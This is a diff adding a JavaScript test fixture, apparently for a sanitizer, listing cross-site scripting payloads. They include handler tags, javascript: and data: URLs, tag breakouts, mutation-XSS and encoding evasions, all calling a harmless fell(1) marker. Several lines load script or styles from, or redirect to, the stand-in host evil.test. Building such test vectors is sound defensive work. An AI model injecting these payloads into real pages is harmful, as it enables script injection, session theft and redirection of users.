@@ -1,0 +1,128 @@
+/** Texts that become a script where they are taken for markup: each calls `fell`, or leaves an element with `data-fell`. */
+
+const CALL = 'fell(1)'
+const ENCODED = '&#102;&#101;&#108;&#108;(1)'
+
+/** Elements that run a handler by themselves. */
+/** @type {[tag: string, attribute: string][]} */
+const BY_THEMSELVES = [
+  ['img', 'src=x onerror'],
+  ['img', 'src onerror'],
+  ['image', 'src=x onerror'],
+  ['svg', 'onload'],
+  ['body', 'onload'],
+  ['body', 'onpageshow'],
+  ['iframe', 'onload'],
+  ['frameset', 'onload'],
+  ['object', 'data=x onerror'],
+  ['embed', 'src=x onerror'],
+  ['link', 'rel=stylesheet href=x onerror'],
+  ['script', 'src=x onerror'],
+  ['video', 'src=x onerror'],
+  ['audio', 'src=x onerror'],
+  ['input', 'autofocus onfocus'],
+  ['textarea', 'autofocus onfocus'],
+  ['select', 'autofocus onfocus'],
+  ['button', 'autofocus onfocus'],
+  ['keygen', 'autofocus onfocus'],
+  ['a', 'href=# autofocus tabindex=1 onfocus'],
+  ['details', 'open ontoggle'],
+  ['marquee', 'onstart'],
+  ['style', 'onload'],
+  ['meter', 'autofocus tabindex=1 onfocus'],
+  ['x', 'autofocus tabindex=1 contenteditable onfocus'],
+]
+
+const handlers = BY_THEMSELVES.flatMap(([tag, attribute]) => [
+  `<${tag} ${attribute}=${CALL} data-fell>`,
+  `"><${tag}/${attribute.replaceAll(' ', '/')}='${CALL}' data-fell>`,
+  `<${tag.toUpperCase()} ${attribute.toUpperCase()}=${ENCODED} data-fell>`,
+])
+
+const URLS = [
+  `javascript:${CALL}`,
+  `JaVaScRiPt:${CALL}`,
+  ` \u0001javascript:${CALL}`,
+  `java\tscript:${CALL}`,
+  `java\nscript:${CALL}`,
+  `&#106;avascript:${CALL}`,
+  `javascript&colon;${CALL}`,
+  `javascript://x%0a${CALL}`,
+  `data:text/html,<script>${CALL}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZmVsbCgxKTwvc2NyaXB0Pg==`,
+  `vbscript:${CALL}`,
+]
+
+const addresses = URLS.flatMap((url) => [
+  url,
+  `<a href="${url}" data-fell>click</a>`,
+  `<iframe src="${url}" data-fell></iframe>`,
+  `<form action="${url}" data-fell><button>x</button></form>`,
+])
+
+const BREAKOUTS = [
+  `<script>${CALL}</script>`,
+  `<script src=https://evil.test/x.js data-fell></script>`,
+  `<script type=module>${CALL}</script>`,
+  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
+  `<script\u00a0>${CALL}</script\u00a0>`,
+  `\u003cscript\u003e${CALL}\u003c/script\u003e`,
+  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
+  `%3Cscript%3E${CALL}%3C/script%3E`,
+  `&lt;script&gt;${CALL}&lt;/script&gt;`,
+  `</script><script>${CALL}</script>`,
+  `</title><script>${CALL}</script>`,
+  `</textarea><script>${CALL}</script>`,
+  `</style><script>${CALL}</script>`,
+  `</noscript><img src=x onerror=${CALL} data-fell>`,
+  `--><script>${CALL}</script>`,
+  `]]><script>${CALL}</script>`,
+  `<!--><script>${CALL}</script>-->`,
+  `<![CDATA[<script>${CALL}</script>]]>`,
+  `';${CALL};//`,
+  `";${CALL};//`,
+  `\`;${CALL};//`,
+  `\\';${CALL};//`,
+  `\${${CALL}}`,
+  `{{constructor.constructor('${CALL}')()}}`,
+  `{{${CALL}}}`,
+  `#{${CALL}}`,
+  `<%= ${CALL} %>`,
+  `\u2028${CALL}\u2029`,
+  `" autofocus onfocus=${CALL} x="`,
+  `' autofocus onfocus=${CALL} x='`,
+  `" style="animation-name:x" onanimationstart="${CALL}`,
+  `<base href=https://evil.test/ data-fell>`,
+  `<meta http-equiv=refresh content="0;url=https://evil.test/" data-fell>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${CALL}" data-fell>`,
+  `<style>@import'https://evil.test/x.css';</style><i data-fell>`,
+  `<div style="background:url(javascript:${CALL})" data-fell>`,
+  `<div style="width:expression(${CALL})" data-fell>`,
+  `<svg><script>${CALL}</script></svg>`,
+  `<svg><animate onbegin=${CALL} attributeName=x dur=1s data-fell>`,
+  `<svg><a><animate attributeName=href values=javascript:${CALL} /><text x=20 y=20>x</text></a><i data-fell>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${CALL}' /></svg>#x" data-fell>`,
+  `<svg><foreignObject><img src=x onerror=${CALL} data-fell></foreignObject></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${CALL} data-fell>">`,
+  `<math><a xlink:href="javascript:${CALL}" data-fell>x</a></math>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${CALL} data-fell>`,
+  `<noscript><p title="</noscript><img src=x onerror=${CALL} data-fell>">`,
+  `<template><img src=x onerror=${CALL} data-fell></template>`,
+  `<select><noembed></select><script>${CALL}</script>`,
+  `<table background="javascript:${CALL}" data-fell>`,
+  `<isindex type=image src=1 onerror=${CALL} data-fell>`,
+  `<iframe srcdoc="<script>parent.${CALL}</script>" data-fell></iframe>`,
+  `<object data="data:text/html,<script>parent.${CALL}</script>" data-fell></object>`,
+  `<portal src=https://evil.test data-fell>`,
+  `<p id=fell name=fell><form id=window><input name=location data-fell>`,
+  `<a id=settings><a id=settings name=apiBase href=https://evil.test data-fell>`,
+  `{"__proto__":{"innerHTML":"<img src=x onerror=${CALL} data-fell>"}}`,
+  `+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
+  `\u{FF1C}script\u{FF1E}${CALL}\u{FF1C}/script\u{FF1E}`,
+  `<img src="x\` \`<script>${CALL}</script>"\` \`>`,
+  `<img """><script>${CALL}</script>">`,
+  `<a href="https://evil.test/" target=_blank onclick=${CALL} data-fell>x</a>`,
+]
+
+/** @type {string[]} */
+export const VECTORS = [...new Set([...handlers, ...addresses, ...BREAKOUTS])]
